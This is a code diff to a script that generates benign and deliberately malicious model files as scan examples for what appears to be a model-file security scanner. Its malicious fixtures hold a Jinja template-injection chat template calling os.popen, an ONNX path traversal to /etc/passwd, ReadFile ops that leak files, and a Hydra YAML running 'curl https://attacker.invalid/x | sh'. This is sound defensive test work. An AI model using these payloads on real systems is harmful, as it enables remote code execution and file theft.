@@ -2,11 +2,18 @@
  * Writes examples/: small benign and malicious models, byte-exact and reproducible, so the README's
  * first command has something real to scan. Run: npm run examples (the output is committed).
  */
-import { mkdirSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { deflateSync } from "node:zlib";
+import { buildGguf, GGML, llamaMetadata, llamaTensors } from "../test/writers/gguf.js";
+import { k3FunctionalModel, k3LambdaBytecode, kerasArchive } from "../test/writers/keras.js";
 import { buildNpy } from "../test/writers/npy.js";
+import { mlpSpec, writeOnnx } from "../test/writers/onnx.js";
 import { pickle } from "../test/writers/pickle.js";
+import { buildSafetensors, llamaTensors as llamaSafetensors } from "../test/writers/safetensors.js";
+import { frozenGraph } from "../test/writers/tensorflow.js";
+import { tfliteModel } from "../test/writers/tflite.js";
 import { legacyTorch, stateDictPickle, type TensorSpec, torchZip } from "../test/writers/torch.js";
 
 // The output folder: examples/ unless another is given (the test regenerates into a temporary one).
@@ -129,5 +136,64 @@ put(
       w.binunicode("_extra").reduceGlobal("os", "system", (a) => a.binunicode("echo pwned")),
     ),
   ),
+);
+// Every other format: the layouts real exporters write, and one trick each.
+const tinyLlama = { vocab: 300, embedding: 256, ffn: 256, layers: 1, weightType: GGML.Q4_K.id };
+const gguf = (template?: string) =>
+  buildGguf({
+    kv: llamaMetadata({ ...tinyLlama, template }),
+    tensors: llamaTensors(tinyLlama),
+  });
+const onnx = (edit: (spec: ReturnType<typeof mlpSpec>) => void = () => {}) => {
+  const spec = mlpSpec();
+  edit(spec);
+  const dir = mkdtempSync(join(tmpdir(), "modelgate-examples-onnx-"));
+  try {
+    return readFileSync(writeOnnx(dir, "model.onnx", spec));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+};
+put("benign", "model.safetensors", buildSafetensors(llamaSafetensors({ layers: 1, hidden: 8, vocab: 16 })));
+put("benign", "llama-3.1-tiny.gguf", gguf());
+put("benign", "mlp.onnx", onnx());
+put("benign", "functional.keras", kerasArchive(k3FunctionalModel()));
+put("benign", "classifier.tflite", tfliteModel());
+put("benign", "frozen_graph.pb", frozenGraph());
+
+put(
+  "malicious",
+  "chat_template_injection.gguf",
+  gguf(
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
+  ),
+);
+put(
+  "malicious",
+  "external_data_traversal.onnx",
+  // onnx.load reads this initializer's bytes from a file outside the model's folder (CVE-2022-25882).
+  onnx((spec) => {
+    spec.graph.initializers![0]!.external = { location: "../../../../../../etc/passwd", skipBytes: true };
+  }),
+);
+put(
+  "malicious",
+  "lambda_in_nested_model.keras",
+  kerasArchive(k3FunctionalModel({ timeDistributed: k3LambdaBytecode("per_step") })),
+);
+put(
+  "malicious",
+  "flex_read_file.tflite",
+  tfliteModel({ extraOps: [{ op: "FlexReadFile", inputs: [0], outputs: [9] }] }),
+);
+put(
+  "malicious",
+  "read_file_graph.pb",
+  frozenGraph([{ name: "leak", op: "ReadFile", inputs: ["input"], attrs: {} }]),
+);
+put(
+  "malicious",
+  "hydra_target.yaml",
+  "model:\n  preprocessor:\n    _target_: os.system\n    _args_: ['curl -s https://attacker.invalid/x | sh']\n",
 );
 console.log(`wrote examples to ${root}`);
